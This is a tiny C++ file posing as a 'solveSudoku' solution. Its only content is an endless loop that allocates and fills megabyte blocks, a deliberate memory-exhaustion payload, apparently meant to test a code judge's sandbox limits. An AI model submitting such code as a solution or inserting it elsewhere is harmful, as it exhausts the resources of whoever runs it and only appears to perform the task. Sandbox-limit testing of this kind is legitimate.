// Allocates and fills blocks of a megabyte without end.
class Solution {
 public:
  void solveSudoku(vector<vector<char>>&) {
    for (;;) {
      if (void* block = malloc(1 << 20)) memset(block, 1, 1 << 20);
    }
  }
};
